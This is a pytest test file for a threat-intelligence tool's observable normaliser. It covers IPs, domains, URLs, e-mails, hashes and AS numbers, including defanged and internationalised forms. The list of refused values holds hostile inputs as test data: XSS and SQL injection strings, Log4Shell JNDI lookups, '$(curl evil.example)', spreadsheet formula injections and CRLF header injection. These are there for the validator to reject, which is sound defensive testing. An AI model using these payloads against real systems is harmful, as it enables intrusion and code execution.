"""The normalisation table: every kind, defanged and IDN forms, and the reasons for refusals."""

from __future__ import annotations

import pytest

from phalanx.errors import InvalidInput
from phalanx.observables import (
    InvalidObservable,
    Observable,
    ObservableType,
    display_value,
    normalize,
    normalize_many,
)
from phalanx.observables.normalize import resolve_type

T = ObservableType
SHA256 = "fe90a7e910cb3a4739bed9180e807e93fa70c90f25a8915476f5e4bfbac681db"
SHA1 = "a9993e364706816aba3e25717850c26c9cd0d89d"
MD5 = "5d41402abc4b2a76b9719d911017c592"
SHA512 = "ddaf35a193617abacc417349ae20413112e6fa4e89a97ea20a9eeee64b55d39a" * 2

ACCEPTED: list[tuple[str, str | None, ObservableType, str]] = [
    # IPv4
    ("198.51.100.7", "ipv4", T.IPV4, "198.51.100.7"),
    ("198.51.100.7", None, T.IPV4, "198.51.100.7"),
    ("  198.51.100.7  ", "ipv4", T.IPV4, "198.51.100.7"),
    ("198[.]51[.]100[.]7", "ipv4", T.IPV4, "198.51.100.7"),
    ("198(.)51(.)100(.)7", None, T.IPV4, "198.51.100.7"),
    ("198{.}51{.}100{.}7", None, T.IPV4, "198.51.100.7"),
    ("198[dot]51[dot]100[dot]7", None, T.IPV4, "198.51.100.7"),
    ("<198.51.100.7>", None, T.IPV4, "198.51.100.7"),
    ('"198.51.100.7",', None, T.IPV4, "198.51.100.7"),
    ("8.8.8.8", "ipv4", T.IPV4, "8.8.8.8"),
    ("1.0.0.1", None, T.IPV4, "1.0.0.1"),
    ("223.255.255.254", None, T.IPV4, "223.255.255.254"),
    ("198.51.100.7/32", "ipv4", T.IPV4, "198.51.100.7"),
    ("::ffff:198.51.100.7", "ipv4", T.IPV4, "198.51.100.7"),
    # IPv6 spellings
    ("2001:db8::1", "ipv6", T.IPV6, "2001:db8::1"),
    ("2001:DB8::1", "ipv6", T.IPV6, "2001:db8::1"),
    ("2001:0db8:0000:0000:0000:0000:0000:0001", "ipv6", T.IPV6, "2001:db8::1"),
    ("2001:0db8:85a3:0000:0000:8a2e:0370:7334", None, T.IPV6, "2001:db8:85a3::8a2e:370:7334"),
    ("2001:db8:0:1:1:1:1:1", "ipv6", T.IPV6, "2001:db8:0:1:1:1:1:1"),
    ("2001:db8:0:0:1:0:0:1", "ipv6", T.IPV6, "2001:db8::1:0:0:1"),
    ("2A00:1450:4001:0829:0000:0000:0000:200E", None, T.IPV6, "2a00:1450:4001:829::200e"),
    ("[2001:db8::1]", "ipv6", T.IPV6, "2001:db8::1"),
    ("2001:db8::1/128", "ipv6", T.IPV6, "2001:db8::1"),
    ("::ffff:198.51.100.7", "ipv6", T.IPV4, "198.51.100.7"),
    ("::FFFF:C633:6407", None, T.IPV4, "198.51.100.7"),
    ("2001:db8::198.51.100.7", "ipv6", T.IPV6, "2001:db8::c633:6407"),
    ("3fff::1", "ipv6", T.IPV6, "3fff::1"),
    # CIDR
    ("198.51.100.0/24", "cidr", T.CIDR, "198.51.100.0/24"),
    ("198.51.100.0/24", None, T.CIDR, "198.51.100.0/24"),
    ("198[.]51[.]100[.]0/24", "cidr", T.CIDR, "198.51.100.0/24"),
    ("198.51.100.7/32", "cidr", T.IPV4, "198.51.100.7"),
    ("198.51.100.7", "cidr", T.IPV4, "198.51.100.7"),
    ("2001:DB8::/32", "cidr", T.CIDR, "2001:db8::/32"),
    ("2001:db8:0:0::/64", None, T.CIDR, "2001:db8::/64"),
    ("2001:db8::1/128", "cidr", T.IPV6, "2001:db8::1"),
    ("8.0.0.0/8", "cidr", T.CIDR, "8.0.0.0/8"),
    # Domains
    ("evil.example", "domain", T.DOMAIN, "evil.example"),
    ("EVIL.Example.COM", "domain", T.DOMAIN, "evil.example.com"),
    ("evil.example.", "domain", T.DOMAIN, "evil.example"),
    ("evil[.]example", None, T.DOMAIN, "evil.example"),
    ("evil(.)example", None, T.DOMAIN, "evil.example"),
    ("evil [.] example", None, T.DOMAIN, "evil.example"),
    ("evil DOT example", None, T.DOMAIN, "evil.example"),
    ("evil[dot]example[.]", None, T.DOMAIN, "evil.example"),
    ("evil[-]corp.example", None, T.DOMAIN, "evil-corp.example"),
    ("'evil.example'", None, T.DOMAIN, "evil.example"),
    ("faß.de", "domain", T.DOMAIN, "xn--fa-hia.de"),
    ("FASS.de", "domain", T.DOMAIN, "fass.de"),
    ("pаypal.com", None, T.DOMAIN, "xn--pypal-4ve.com"),
    ("bücher.example", "domain", T.DOMAIN, "xn--bcher-kva.example"),
    ("BÜCHER.example", "domain", T.DOMAIN, "xn--bcher-kva.example"),
    ("xn--bcher-kva.example", "domain", T.DOMAIN, "xn--bcher-kva.example"),
    ("XN--BCHER-KVA.example", "domain", T.DOMAIN, "xn--bcher-kva.example"),
    ("例え.テスト", "domain", T.DOMAIN, "xn--r8jz45g.xn--zckzah"),
    ("пример.рф", None, T.DOMAIN, "xn--e1afmkfd.xn--p1ai"),
    ("münchen。example", "domain", T.DOMAIN, "xn--mnchen-3ya.example"),
    ("a" * 63 + ".example", "domain", T.DOMAIN, "a" * 63 + ".example"),
    (("a" * 63 + ".") * 3 + "a" * 61, "domain", T.DOMAIN, ("a" * 63 + ".") * 3 + "a" * 61),
    ("3com.example", None, T.DOMAIN, "3com.example"),
    ("mysite--x.example", "domain", T.DOMAIN, "mysite--x.example"),
    ("1.2.3.4.example", None, T.DOMAIN, "1.2.3.4.example"),
    ("duskgytldkxiuqc6.onion", None, T.DOMAIN, "duskgytldkxiuqc6.onion"),
    ("evil.test", None, T.DOMAIN, "evil.test"),
    ("evil.invalid", None, T.DOMAIN, "evil.invalid"),
    ("www.example.org", None, T.DOMAIN, "www.example.org"),
    # URLs
    ("http://evil.example/", "url", T.URL, "http://evil.example/"),
    ("http://evil.example", "url", T.URL, "http://evil.example/"),
    ("HTTP://EVIL.Example/Path", "url", T.URL, "http://evil.example/Path"),
    ("hxxp://evil[.]example/gate.php", "url", T.URL, "http://evil.example/gate.php"),
    ("hXXps://evil[.]example/", "url", T.URL, "https://evil.example/"),
    ("h**p://evil.example/x", "url", T.URL, "http://evil.example/x"),
    ("hxxps[://]evil[.]example/x", None, T.URL, "https://evil.example/x"),
    ("http[:]//evil.example/x", None, T.URL, "http://evil.example/x"),
    ("xxxx://evil.example/x", None, T.URL, "http://evil.example/x"),
    ("fxp://files.evil.example/a.bin", None, T.URL, "ftp://files.evil.example/a.bin"),
    ("http:///evil.example/x", "url", T.URL, "http://evil.example/x"),
    ("http://evil.example:80/x", "url", T.URL, "http://evil.example/x"),
    ("https://evil.example:443/x", "url", T.URL, "https://evil.example/x"),
    ("http://evil.example:8080/x", "url", T.URL, "http://evil.example:8080/x"),
    ("https://evil.example:0443/x", "url", T.URL, "https://evil.example/x"),
    ("http://evil.example/a/./b/../c", "url", T.URL, "http://evil.example/a/c"),
    ("http://evil.example/a//b///c", "url", T.URL, "http://evil.example/a/b/c"),
    ("http://evil.example/a/b/../", "url", T.URL, "http://evil.example/a/"),
    ("http://evil.example/a/b/..", "url", T.URL, "http://evil.example/a/b/"),  # prose dots
    ("http://evil.example/%7euser/%2f%41", "url", T.URL, "http://evil.example/~user/%2FA"),
    ("http://evil.example/a b", "url", T.URL, "http://evil.example/a%20b"),
    ("http://evil.example/ä", "url", T.URL, "http://evil.example/%C3%A4"),
    ("http://evil.example/x?b=2&a=1", "url", T.URL, "http://evil.example/x?b=2&a=1"),
    ("http://evil.example/x?q=a b", "url", T.URL, "http://evil.example/x?q=a%20b"),
    ("http://evil.example/x#fragment", "url", T.URL, "http://evil.example/x"),
    ("http://evil.example/x\t/y\r\n", "url", T.URL, "http://evil.example/x/y"),
    ("http://user:pass@evil.example/x", "url", T.URL, "http://user:pass@evil.example/x"),
    ("http://3279880203/", "url", T.URL, "http://195.127.0.11/"),
    ("http://0xC37F000B/", "url", T.URL, "http://195.127.0.11/"),
    ("http://0303.0177.0.013/", "url", T.URL, "http://195.127.0.11/"),
    ("http://195.127.11/", "url", T.URL, "http://195.127.0.11/"),
    ("http://[2001:DB8::1]:8080/x", "url", T.URL, "http://[2001:db8::1]:8080/x"),
    ("http://bücher.example/", "url", T.URL, "http://xn--bcher-kva.example/"),
    ("http://evil..example./x", "url", T.URL, "http://evil.example/x"),
    ("http:\\\\evil.example\\x", "url", T.URL, "http://evil.example/x"),
    ("ldap://evil.example:389/a", None, T.URL, "ldap://evil.example/a"),
    ("evil.example/gate.php?id=1", None, T.URL, "http://evil.example/gate.php?id=1"),
    ("evil.example:8080", None, T.URL, "http://evil.example:8080/"),
    ("http://evil.example/a.", "url", T.URL, "http://evil.example/a"),
    ("http://evil.example/a%2E", "url", T.URL, "http://evil.example/a%2E"),
    ("http://evil.example/(%2E)", "url", T.URL, "http://evil.example/%28.%29"),
    # E-mail
    ("john@example.com", "email", T.EMAIL, "john@example.com"),
    ("John.Doe@EXAMPLE.com", "email", T.EMAIL, "John.Doe@example.com"),
    ("john[at]evil[.]example", None, T.EMAIL, "john@evil.example"),
    ("john(at)evil(.)example", None, T.EMAIL, "john@evil.example"),
    ("john [at] evil [dot] example", None, T.EMAIL, "john@evil.example"),
    ("billing+x@bücher.example", None, T.EMAIL, "billing+x@xn--bcher-kva.example"),
    ('"john doe"@evil.example', "email", T.EMAIL, '"john doe"@evil.example'),
    # Hashes
    (MD5, "md5", T.MD5, MD5),
    (MD5.upper(), None, T.MD5, MD5),
    (SHA1, "sha1", T.SHA1, SHA1),
    (f"  {SHA1.upper()}  ", "sha1", T.SHA1, SHA1),
    (SHA256, "sha256", T.SHA256, SHA256),
    (SHA256.upper(), None, T.SHA256, SHA256),
    (f'"{SHA256}"', "sha256", T.SHA256, SHA256),
    (SHA512, "sha512", T.SHA512, SHA512),
    (SHA512.upper(), None, T.SHA512, SHA512),
    # AS numbers
    ("AS64496", "asn", T.ASN, "64496"),
    ("as64496", None, T.ASN, "64496"),
    ("64496", "asn", T.ASN, "64496"),
    ("AS 64496", None, T.ASN, "64496"),
    ("ASN64496", None, T.ASN, "64496"),
    ("AS1.10", "asn", T.ASN, "65546"),
    ("4294967295", "asn", T.ASN, "4294967295"),
    ("1", "asn", T.ASN, "1"),
]

REFUSED: list[tuple[str, str | None, str]] = [
    # IPv4
    ("010.1.1.1", "ipv4", "'010' in '010.1.1.1' has a leading zero"),
    ("010.1.1.1", None, "leading zero"),
    ("256.1.1.1", "ipv4", "256 in '256.1.1.1' is larger than 255"),
    ("198.51.100", "ipv4", "got 3 part(s)"),
    ("198.51.100.7.9", "ipv4", "got 5 part(s)"),
    ("198.51.100.x", "ipv4", "'x' in '198.51.100.x' is not a decimal number"),
    ("10.0.0.5", None, "10.0.0.5 is in 10.0.0.0/8, private address space (RFC 1918)"),
    ("172.16.4.1", "ipv4", "172.16.0.0/12, private address space (RFC 1918)"),
    ("192.168.1.1", None, "192.168.0.0/16, private address space (RFC 1918)"),
    ("127.0.0.1", None, "loopback (RFC 1122"),
    ("0.0.0.0", None, "'this network' (RFC 791"),
    ("100.64.0.1", None, "carrier-grade NAT (RFC 6598)"),
    ("169.254.169.254", None, "link-local (RFC 3927)"),
    ("192.0.0.8", None, "IETF protocol assignments (RFC 6890)"),
    ("198.18.0.1", None, "benchmarking (RFC 2544)"),
    ("224.0.0.1", None, "multicast (RFC 5771)"),
    ("240.1.2.3", None, "reserved for future use (RFC 1112"),
    ("255.255.255.255", None, "limited broadcast address (RFC 919) and is never accepted"),
    ("192.88.99.1", None, "6to4 relay anycast prefix (RFC 7526)"),
    ("198.51.100.0/24", "ipv4", "is a network, not a single address"),
    # IPv6
    ("fe80::1%eth0", "ipv6", "zone id '%eth0' (RFC 6874)"),
    ("fe80::1%25en0", None, "zone id"),
    ("::", "ipv6", ":: is the unspecified address (RFC 4291"),
    ("::1", None, "::1 is loopback (RFC 4291"),
    ("fe80::1", None, "fe80::/10, link-local (RFC 4291"),
    ("fd00::1", None, "fc00::/7, unique local address space (RFC 4193)"),
    ("ff02::1", None, "multicast (RFC 4291"),
    ("100::1", None, "discard-only prefix (RFC 6666)"),
    ("2001:0:4136:e378:8000:63bf:3fff:fdd2", None, "Teredo (RFC 4380)"),
    ("2001:10::1", None, "IETF protocol assignments (RFC 2928)"),
    ("2002:c633:6407::1", None, "6to4 (RFC 3056), which is never accepted as an indicator; it"),
    ("2002:c633:6407::1", None, "embeds the IPv4 address 198.51.100.7"),
    ("64:ff9b::c633:6407", None, "NAT64 well-known prefix (RFC 6052)"),
    ("64:ff9b::a00:1", None, "embeds the IPv4 address 10.0.0.1"),
    ("64:ff9b:1::1", None, "local-use NAT64 prefix (RFC 8215)"),
    ("::ffff:10.1.2.3", None, "10.0.0.0/8, private address space (RFC 1918)"),
    ("::198.51.100.7", None, "deprecated IPv4-compatible address (RFC 4291 §2.5.5.1)"),
    ("2001:db8:::1", "ipv6", "is not a valid IPv6 address"),
    ("2001:db8::g", "ipv6", "is not a valid IPv6 address"),
    ("1:2:3:4:5:6:7:8:9", "ipv6", "is not a valid IPv6 address"),
    ("2001:db8::/64", "ipv6", "is a network, not a single address"),
    # CIDR
    ("198.51.100.7/24", "cidr", "has host bits set; the network it would be is 198.51.100.0/24"),
    ("2001:db8::1/64", "cidr", "the network it would be is 2001:db8::/64"),
    ("10.0.0.0/8", "cidr", "10.0.0.0/8 is private address space (RFC 1918) and is never accepted"),
    ("10.1.0.0/16", "cidr", "overlaps 10.0.0.0/8, private address space (RFC 1918)"),
    ("192.0.0.0/8", "cidr", "overlaps 192.0.0.0/24, IETF protocol assignments"),
    ("fd12:3456::/32", "cidr", "overlaps fc00::/7, unique local address space (RFC 4193)"),
    ("0.0.0.0/0", "cidr", "0.0.0.0/0 is broader than /8 (IPv4)"),
    ("16.0.0.0/4", "cidr", "needs an administrator's allow_broad override"),
    ("2a00::/12", "cidr", "2a00::/12 is broader than /32 (IPv6)"),
    ("198.51.100.0/33", "cidr", "prefix length /33 is longer than 32 bits"),
    ("198.51.100.0/024", "cidr", "must be a decimal number without leading zeros"),
    ("198.51.100.0/", "cidr", "must be a decimal number"),
    # Domains
    (
        "a" * 64 + ".example",
        "domain",
        "label 'aaaaaaaaaaaaaaaa…' is longer than 63 characters (RFC 1035)",
    ),
    (("a" * 63 + ".") * 3 + "a" * 62, "domain", "name is 254 characters long, more than 253"),
    ("-evil.example", "domain", "label '-evil' starts or ends with a hyphen"),
    ("evil-.example", "domain", "label 'evil-' starts or ends with a hyphen"),
    ("ab--cd.example", "domain", "has '--' in positions 3-4, reserved for IDNA"),
    ("evil..example", "domain", "has an empty label"),
    (".evil.example", "domain", "has an empty label"),
    ("evil_site.example", "domain", "contains '_', which is not allowed in host names"),
    ("_dmarc.example.com", "domain", "service labels such as _dmarc are DNS records"),
    ("*.evil.example", "domain", "is a wildcard pattern, not an observable"),
    ("evil", "domain", "a domain needs at least two labels"),
    ("1.2.3.4", "domain", "top-level label '4' is all digits"),
    ("evil.example/path", "domain", "contains '/' — is this a URL or an e-mail address?"),
    ("evil example.com", "domain", "contains ' '"),
    ("xn--zz.example", "domain", "is not a valid internationalised domain name"),
    ("xn--fa-hia-.de", "domain", "not a valid internationalised domain name"),
    ("localhost", None, "'localhost' names always mean the local host (RFC 6761 §6.3)"),
    ("api.localhost", None, "(RFC 6761 §6.3)"),
    ("printer.local", None, "'.local' names are link-local multicast DNS (RFC 6762)"),
    ("7.100.51.198.in-addr.arpa", "domain", "DNS infrastructure such as in-addr.arpa (RFC 3172)"),
    ("db.internal", None, "private-use TLD reserved by ICANN"),
    ("evil\u200b.example", "domain", "U+200B (ZERO WIDTH SPACE)"),
    ("ev\u00adil.example", "domain", "U+00AD (SOFT HYPHEN)"),
    ("evil\u200d.example", None, "U+200D (ZERO WIDTH JOINER)"),
    ("\ufeffevil.example", None, "U+FEFF"),
    ("evil\u202e.example", None, "U+202E (RIGHT-TO-LEFT OVERRIDE)"),
    ("", "domain", "value is empty"),
    ("   ", "domain", "value is empty"),
    # URLs
    ("evil.example/path", "url", "a URL needs a scheme such as http://"),
    ("javascript:alert(1)", None, "script injection"),
    ("data:text/html;base64,PHNjcmlwdD4=", "url", "data: URLs carry content inline"),
    ("file:///etc/passwd", "url", "file: URLs point into the reader's own disk"),
    ("mailto:john@evil.example", "url", "mailto: URLs are e-mail addresses"),
    ("gopher://evil.example/", "url", "scheme 'gopher' is not accepted"),
    ("http://10.0.0.1/admin", "url", "URL host: 10.0.0.1 is in 10.0.0.0/8, private address space"),
    ("http://127.1/", "url", "URL host: 127.0.0.1 is in 127.0.0.0/8, loopback"),
    ("http://[::1]/", "url", "::1 is loopback"),
    ("http://localhost:8080/", "url", "'localhost' names always mean the local host"),
    ("http://evil.example:99999/", "url", "port '99999' is not a number from 0 to 65535"),
    ("http://evil.example:abc/", "url", "port 'abc' is not a number"),
    ("http:///", "url", "URL has no host"),
    ("http://256.1.1.1/", "url", "URL host '256.1.1.1' is out of the IPv4 range"),
    ("http://evil_site.example/", "url", "URL host: 'evil_site.example' contains '_'"),
    ("http://" + "a" * 64 + ".example/", "url", "URL host: label"),
    ("http://evil.example/" + "a" * 9000, "url", "more than 8192"),
    ("ldap:evil.example", "url", "a ldap: URL needs '//' and a host"),
    # E-mail
    ("john.example.com", "email", "an e-mail address needs a local part and '@'"),
    ("@evil.example", "email", "an e-mail address needs a local part and '@'"),
    ("john..doe@evil.example", "email", "is neither a dot-atom nor a quoted string"),
    ("john doe@evil.example", "email", "is neither a dot-atom nor a quoted string"),
    ("a" * 65 + "@evil.example", "email", "local part is 65 octets, more than 64"),
    ("john@[198.51.100.7]", "email", "address literals"),
    ("john@localhost", "email", "domain of e-mail address: localhost: 'localhost' names"),
    ("john@evil_site.example", "email", "domain of e-mail address: 'evil_site.example' contains"),
    # Hashes
    (SHA256[:63], "sha256", "sha256 must be 64 hex characters, got 63"),
    (SHA256 + "a", "sha256", "sha256 must be 64 hex characters, got 65"),
    (SHA1, "sha256", "got 40 (that is the length of a sha1)"),
    (MD5[:31] + "g", "md5", "md5 must be hexadecimal; 'g' is not a hex digit"),
    ("0x" + MD5, "md5", "'x' is not a hex digit"),
    (SHA512[:127], "sha512", "sha512 must be 128 hex characters, got 127"),
    ("d41d8cd98f00b204e9800998ecf8427e", None, "is the MD5 of an empty file"),
    ("DA39A3EE5E6B4B0D3255BFEF95601890AFD80709", "sha1", "is the SHA-1 of an empty file"),
    (
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "sha256",
        "is the SHA-256 of an empty file and is never accepted as an indicator",
    ),
    (
        "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce"
        "47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e",
        None,
        "is the SHA-512 of an empty file",
    ),
    ("a" * 50, None, "50 hex characters is no hash length Phalanx knows"),
    # AS numbers
    ("AS0", "asn", "AS number 0 is outside 1-4294967295 (AS 0 is reserved, RFC 7607)"),
    ("4294967296", "asn", "is outside 1-4294967295"),
    ("ASX", "asn", "an AS number is digits with an optional 'AS' prefix"),
    ("AS70000.1", "asn", "asdot number 70000.1 is out of range (RFC 5396)"),
    # Injection and markup
    ("<script>alert(1)</script>", None, "looks like HTML/XML markup"),
    ("<img src=x onerror=alert(1)>", "domain", "looks like HTML/XML markup"),
    ("evil.example<svg/onload=alert(1)>", "domain", "looks like HTML/XML markup"),
    ("' OR 1=1 --", None, "looks like SQL injection"),
    ("evil.example'; DROP TABLE observables; --", "domain", "looks like SQL injection"),
    ("1 UNION SELECT password FROM users", None, "looks like SQL injection"),
    ("http://evil.example/x?id=1' OR '1'='1", "url", "looks like SQL injection"),
    ("{{7*7}}", None, "looks like a template expression"),
    ("evil.example{{config}}", "domain", "looks like a template expression"),
    ("${jndi:ldap://evil.example/a}", None, "looks like a Log4Shell JNDI lookup (CVE-2021-44228)"),
    ("${${lower:j}ndi:ldap://evil.example/a}", "url", "Log4Shell JNDI lookup"),
    ("http://evil.example/?x=${jndi:ldap://evil.example/a}", "url", "Log4Shell"),
    ("$(curl evil.example)", None, "shell command substitution"),
    ("=cmd|' /C calc'!A0", None, "spreadsheet formula"),
    ('=HYPERLINK("http://evil.example")', "url", "spreadsheet formula"),
    ("evil.example\x00", "domain", "contains a NUL character (U+0000)"),
    ("198.51.100.7\x00", "ipv4", "NUL character"),
    ("evil.example\r\nX-Injected: 1", "domain", "line break or tab (U+000D)"),
    ("evil\n.example", "domain", "line break or tab (U+000A)"),
    ("evil\t.example", "domain", "line break or tab (U+0009)"),
    ("\x1b[31mevil.example\x1b[0m", "domain", "ANSI escape sequence (ESC, U+001B)"),
    ("evil\x07.example", "domain", "control character U+0007"),
    ("evil.exam\x85ple", "domain", "control character U+0085"),
    # Type names
    ("198.51.100.7", "ip-address", "unknown observable type 'ip-address'"),
]


@pytest.mark.parametrize(("value", "kind", "expected_type", "expected"), ACCEPTED)
def test_normalize_accepts(
    value: str, kind: str | None, expected_type: ObservableType, expected: str
) -> None:
    assert normalize(value, kind) == Observable(expected_type, expected)


@pytest.mark.parametrize(("value", "kind", "fragment"), REFUSED)
def test_normalize_refuses_with_reason(value: str, kind: str | None, fragment: str) -> None:
    with pytest.raises(InvalidObservable) as caught:
        normalize(value, kind)
    assert fragment in caught.value.reason


def test_table_covers_every_plain_kind_and_is_large() -> None:
    kinds = {kind for _, _, kind, _ in ACCEPTED}
    assert kinds == set(T) - {T.YARA, T.SURICATA, T.SIGMA, T.STIX_PATTERN}
    assert len(ACCEPTED) + len(REFUSED) >= 120


def test_invalid_observable_is_invalid_input_with_fields() -> None:
    with pytest.raises(InvalidInput) as caught:
        normalize("a" * 63, T.SHA256)
    error = caught.value
    assert isinstance(error, InvalidObservable)
    assert error.field == "value"
    assert error.kind is T.SHA256
    assert error.to_dict()["kind"] == "sha256"


def test_allow_broad_lets_wide_prefixes_through_but_not_reserved_ones() -> None:
    assert normalize("16.0.0.0/4", "cidr", allow_broad=True).value == "16.0.0.0/4"
    assert normalize("2a00::/12", "cidr", allow_broad=True).value == "2a00::/12"
    with pytest.raises(InvalidObservable, match=r"overlaps 0\.0\.0\.0/8"):
        normalize("0.0.0.0/0", "cidr", allow_broad=True)


def test_type_names_resolve_case_insensitively_with_stix_aliases() -> None:
    assert resolve_type("IPv4") is T.IPV4
    assert resolve_type("domain-name") is T.DOMAIN
    assert resolve_type("sha-256") is T.SHA256
    assert resolve_type("auto") is None
    assert resolve_type(" ") is None
    assert resolve_type(T.URL) is T.URL


def test_non_string_value_is_refused() -> None:
    with pytest.raises(InvalidObservable, match="value must be a string, got int"):
        normalize(12345, "asn")  # type: ignore[arg-type]


def test_normalize_many_returns_errors_in_place() -> None:
    results = normalize_many(
        [("198.51.100.7", "ipv4"), ("10.0.0.1", None), ("EVIL[.]example", T.DOMAIN)]
    )
    assert results[0] == Observable(T.IPV4, "198.51.100.7")
    assert isinstance(results[1], InvalidObservable)
    assert "RFC 1918" in results[1].reason
    assert results[2] == Observable(T.DOMAIN, "evil.example")


@pytest.mark.parametrize(
    ("value", "kind", "shown"),
    [
        ("xn--fa-hia.de", "domain", "faß.de"),
        ("pаypal.com", "domain", "pаypal.com"),
        ("john@bücher.example", "email", "john@bücher.example"),
        ("http://user@bücher.example:8080/xn--x", "url", "http://user@bücher.example:8080/xn--x"),
        ("evil.example", "domain", "evil.example"),
        ("2001:db8::1", "ipv6", "2001:db8::1"),
    ],
)
def test_display_value_shows_unicode_labels(value: str, kind: str, shown: str) -> None:
    assert display_value(normalize(value, kind)) == shown


def test_idna2008_keeps_sharp_s_where_the_builtin_codec_folds_it() -> None:
    assert "faß.de".encode("idna") == b"fass.de"  # the trap of spec-notes §0.8
    assert normalize("faß.de", "domain").value == "xn--fa-hia.de"
